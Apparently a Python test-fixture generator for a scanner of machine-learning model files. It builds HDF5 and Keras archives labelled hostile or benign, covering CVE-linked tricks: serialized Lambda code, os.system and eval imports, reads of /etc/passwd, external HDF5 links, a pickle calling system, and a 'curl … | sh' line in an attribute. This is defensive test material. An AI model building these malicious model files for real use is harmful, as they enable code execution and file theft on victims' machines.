"""HDF5 files as Keras writes them, and Keras configurations in HDF5, in ZIP archives and alone."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile

from corpus.case import benign, hostile

_NONE = b"\xff" * 8


def _attribute(name: str, value: bytes) -> tuple[int, bytes]:
    """A fixed-length text attribute, version 1: name, type and space padded to 8 bytes."""
    label = name.encode() + b"\0"
    kind = struct.pack("<B3sI", 0x13, b"\x01\0\0", max(len(value), 1))
    space = bytes([1, 0, 0, 0, 0, 0, 0, 0])
    head = struct.pack("<BBHHH", 1, 0, len(label), len(kind), len(space))
    parts = b"".join(part + bytes(-len(part) % 8) for part in (label, kind, space))
    return 12, head + parts + (value or b"\0")


def _variable(name: str, heap: int, size: int) -> tuple[int, bytes]:
    """A text attribute of variable length: the text is object 1 of a global heap."""
    label = name.encode() + b"\0"
    kind = struct.pack("<B3sI", 0x19, b"\x01\x01\0", 16) + struct.pack(
        "<B3sI", 0x13, b"\x01\0\0", 1
    )
    space = bytes([1, 0, 0, 0, 0, 0, 0, 0])
    head = struct.pack("<BBHHH", 1, 0, len(label), len(kind), len(space))
    parts = b"".join(part + bytes(-len(part) % 8) for part in (label, kind, space))
    return 12, head + parts + struct.pack("<IQI", size, heap, 1)


def _link(name: str, kind: int, target: bytes) -> tuple[int, bytes]:
    head = bytes([1, 8, kind, len(name)]) + name.encode()
    return 6, head + (target if kind == 0 else struct.pack("<H", len(target)) + target)


def _header(messages: list[tuple[int, bytes]]) -> bytes:
    body = b""
    for kind, data in messages:
        padded = data + bytes(-len(data) % 8)
        body += struct.pack("<HHB3x", kind, len(padded), 0) + padded
    return struct.pack("<BxHII4x", 1, len(messages), 1, len(body)) + body


_LINK_INFO = (2, bytes([0, 0]) + _NONE + _NONE)
_GROUP_INFO = (10, bytes([0, 0]))


def hdf5(
    attributes: dict[str, bytes] | None = None,
    more: list[tuple[int, bytes]] | None = None,
    *,
    dataset: list[tuple[int, bytes]] | None = None,
    heap: bytes | None = None,
    end: int = 0,
) -> bytes:
    """A file of one group, with a dataset in it; `heap` is a model_config of variable length."""
    size = len(heap or b"")
    objects = struct.pack("<HHIQ", 1, 1, 0, size) + (heap or b"")
    objects += bytes(-len(objects) % 8)
    total = max(4096, 16 + len(objects) + 16)
    collection = b"GCOL\1\0\0\0" + struct.pack("<Q", total) + objects
    collection += struct.pack("<HHIQ", 0, 0, 0, total - len(collection))
    collection += bytes(total - len(collection))
    first = 96
    space = (1, bytes([1, 1, 0, 0, 0, 0, 0, 0]) + struct.pack("<Q", 4))
    number = (3, struct.pack("<B3sIHHBBBBI", 0x11, b"\x20\x1f\0", 4, 0, 32, 23, 8, 0, 23, 127))
    values = struct.pack("<4f", 1, 2, 3, 4)
    layout = (8, bytes([3, 0]) + struct.pack("<H", len(values)) + values)
    data = _header(dataset or [space, number, (5, bytes([2, 2, 0, 0])), layout])
    second = first + len(data)
    root = [_attribute(*item) for item in (attributes or {}).items()]
    tail = second + len(collection) if heap is not None else second
    if heap is not None:
        root.append(_variable("model_config", second, size))
    root += [_LINK_INFO, _GROUP_INFO, _link("w", 0, struct.pack("<Q", first)), *(more or [])]
    body = data + (collection if heap is not None else b"") + _header(root)
    whole = end or first + len(body)
    head = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HHI", 4, 16, 0)
    head += struct.pack("<Q", 0) + _NONE + struct.pack("<Q", whole) + _NONE
    return head + struct.pack("<QQII16x", 0, tail, 0, 0) + body


def external(file: str, inside: str) -> tuple[int, bytes]:
    return _link("x", 64, b"\0" + file.encode() + b"\0" + inside.encode() + b"\0")


def _layer(name: str, config: dict[str, object], **more: object) -> dict[str, object]:
    fields = {"module": "keras.layers", "class_name": name, "config": config}
    return {**fields, "registered_name": None, **more}


def keras_config(*layers: dict[str, object]) -> bytes:
    dense = _layer(
        "Dense",
        {
            "name": "dense",
            "dtype": {
                "module": "keras",
                "class_name": "DTypePolicy",
                "config": {"name": "float32"},
            },
            "units": 2,
            "activation": "relu",
            "kernel_initializer": {
                "module": "keras.initializers",
                "class_name": "GlorotUniform",
                "config": {"seed": None},
            },
        },
    )
    return json.dumps(
        {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"name": "sequential", "layers": [dense, *layers]},
            "registered_name": None,
        }
    ).encode()


def keras_zip(config: bytes, weights: bytes | None = None) -> dict[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in (
            ("metadata.json", b'{"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}'),
            ("config.json", config),
            ("model.weights.h5", weights or hdf5()),
        ):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return {"model.keras": out.getvalue()}


_CODE = "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7pAgAAAA=="
LAMBDA = _layer(
    "Lambda",
    {
        "function": {
            "class_name": "__lambda__",
            "config": {"code": _CODE, "defaults": None, "closure": None},
        }
    },
)
LEGACY_LAMBDA = {
    "class_name": "Lambda",
    "config": {"function": [_CODE, None, None], "function_type": "lambda", "module": "__main__"},
}
CASES = {
    "lambda-cve-2024-3660": (LAMBDA, "lambda"),
    "legacy-lambda-cve-2025-9905": (LEGACY_LAMBDA, "lambda"),
    "import-cve-2025-1550": (
        {"module": "os", "class_name": "system", "config": {"command": "true"}},
        "foreign_import",
    ),
    "function-cve-2025-1550": (
        _layer(
            "Dense",
            {"activation": {"class_name": "function", "module": "os", "config": "system"}},
        ),
        "foreign_import",
    ),
    "get-file-cve-2025-8747": (
        {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x"}},
        "foreign_import",
    ),
    "unsafe-mode-cve-2025-9906": (
        {
            "module": "keras.config",
            "class_name": "enable_unsafe_deserialization",
            "config": {},
        },
        "foreign_import",
    ),
    "src-helpers": (
        {"module": "keras.src.utils.file_utils", "class_name": "get_file", "config": {}},
        "foreign_import",
    ),
    "backend-module": (
        {
            "module": "keras.src.backend.torch.optimizers.torch_adam",
            "class_name": "torch",
            "config": {},
        },
        "foreign_import",
    ),
    "builtin-eval": (
        {"module": "builtins", "class_name": "function", "config": "eval"},
        "foreign_import",
    ),
    "unknown-module": ({"module": "helper", "class_name": "Run", "config": {}}, "foreign_import"),
    "torch-cve-2025-49655": (
        _layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__"}}),
        "unsafe_layer",
    ),
    "saved-model-layer": (_layer("TFSMLayer", {"filepath": "/srv/evil"}), "unsafe_layer"),
    "vocabulary-cve-2025-12058": (
        _layer("StringLookup", {"vocabulary": "/etc/passwd"}),
        "file_access",
    ),
    "symbol-read-file": (
        {"class_name": "TFOpLambda", "config": {"function": "io.read_file"}},
        "file_access",
    ),
}
for name, (layer, rule) in CASES.items():
    hostile(f"keras-{name}", f"keras.{rule}", keras_zip(keras_config(layer)))
    files = {"model.h5": hdf5({"keras_version": b"2.15.0", "model_config": keras_config(layer)})}
    hostile(f"keras-h5-{name}", f"keras.{rule}", files)
hostile("keras-json-lambda", "keras.lambda", {"architecture.json": keras_config(LEGACY_LAMBDA)})
hostile(
    "keras-json-escaped",
    "keras.lambda",
    {"model.json": keras_config(LAMBDA).replace(b"class_name", b"\\u0063lass_name")},
)
hostile(
    "keras-json-padded",
    "keras.lambda",
    {"model.json": b'{"note": "' + b"x" * 70_000 + b'", ' + keras_config(LAMBDA)[1:]},
)
benign("json-long-twin", {"data.json": b'{"note": "' + b"x" * 70_000 + b'"}'})
hostile("keras-h5-heap", "keras.lambda", {"model.h5": hdf5(heap=keras_config(LEGACY_LAMBDA))})
hostile(
    "keras-custom-object",
    "keras.custom_object",
    keras_zip(keras_config(_layer("Mine", {}, module=None, registered_name="mine>Mine"))),
    "incomplete",
)
hostile("keras-config-broken", "", keras_zip(keras_config()[:-4]), "incomplete")
benign("keras-twin", keras_zip(keras_config()))
benign(
    "keras-functional-twin",
    keras_zip(
        json.dumps(
            {
                "module": "keras.src.models.functional",
                "class_name": "Functional",
                "config": {
                    "layers": [
                        {
                            "module": "keras.src.ops.numpy",
                            "class_name": "Add",
                            "config": {"name": "add"},
                            "registered_name": "Add",
                            "inbound_nodes": [
                                {"args": [{"class_name": "__keras_tensor__", "config": {}}]}
                            ],
                        },
                        _layer("StringLookup", {"vocabulary": ["a", "b"], "num_oov_indices": 1}),
                    ]
                },
                "registered_name": "Functional",
            }
        ).encode()
    ),
)
OPTIMIZER = {"optimizer_config": {"class_name": "Custom>Adam", "config": {"name": "Adam"}}}
benign(
    "keras-backend-optimizer-twin",
    keras_zip(
        keras_config(
            {
                "module": "keras.src.backend.torch.optimizers.torch_adam",
                "class_name": "Adam",
                "config": {"name": "adam"},
            }
        )
    ),
)
benign("keras-optimizer-twin", {"m.h5": hdf5({"training_config": json.dumps(OPTIMIZER).encode()})})
hostile(
    "keras-main-function",
    "keras.custom_object",
    keras_zip(keras_config({"module": "__main__", "class_name": "function", "config": "my_loss"})),
    "incomplete",
)
benign("keras-h5-twin", {"model.h5": hdf5({"model_config": keras_config(), "backend": b"jax"})})
benign("keras-h5-heap-twin", {"model.h5": hdf5(heap=keras_config())})
benign(
    "keras-legacy-symbol-twin",
    {
        "model.h5": hdf5(
            {
                "model_config": keras_config(
                    {"class_name": "TFOpLambda", "config": {"function": "math.add"}}
                )
            }
        )
    },
)
benign("hdf5-twin", {"model.weights.h5": hdf5({"note": b"weights, import them with keras"})})
hostile("hdf5-external-link", "hdf5.external_link", {"m.h5": hdf5(more=[external("/etc/x", "/d")])})
hostile(
    "hdf5-external-data-cve-2026-1669",
    "hdf5.external_data",
    {
        "model.weights.h5": hdf5(
            dataset=[(7, bytes([1, 0, 0, 0]) + struct.pack("<HHQ", 1, 1, 0))],
        )
    },
)
hostile(
    "keras-external-link-cve-2026-1669",
    "hdf5.external_link",
    keras_zip(keras_config(), hdf5(more=[external("/etc/x", "/d")])),
)
hostile(
    "hdf5-virtual-data",
    "hdf5.external_data",
    {"m.h5": hdf5(dataset=[(8, bytes([4, 3]) + struct.pack("<QI", 96, 1))])},
)
hostile(
    "hdf5-code-in-attribute",
    "hdf5.code_in_attribute",
    {"m.h5": hdf5({"note": b"curl http://203.0.113.7/x | sh"})},
)
hostile(
    "hdf5-pickle-in-attribute",
    "pickle.dangerous_call",
    {"m.h5": hdf5({"meta": b"cposix\nsystem\n(S'true'\ntR."})},
)
benign("hdf5-pickle-twin", {"m.h5": hdf5({"meta": pickle.dumps(["a", 1], 2)})})
hostile("hdf5-trailing", "hdf5.hidden_bytes", {"m.h5": hdf5() + b"PAYLOAD" * 9}, "incomplete")
hostile("hdf5-before", "hdf5.hidden_bytes", {"m.h5": b"PAYLOAD".ljust(512) + hdf5()}, "incomplete")
benign("hdf5-user-block-twin", {"m.h5": bytes(512) + hdf5()})
hostile("hdf5-truncated", "hdf5.malformed", {"m.h5": hdf5()[:-40]})
hostile("hdf5-loop", "hdf5.malformed", {"m.h5": hdf5(more=[(16, struct.pack("<QQ", 96, 1 << 40))])})
hostile("hdf5-text", "hdf5.malformed", {"m.h5": b"no model"})
hostile(
    "hdf5-fractal-heap",
    "",
    {"m.h5": hdf5(more=[(21, bytes([0, 0]) + struct.pack("<QQ", 96, 96))])},
    "incomplete",
)
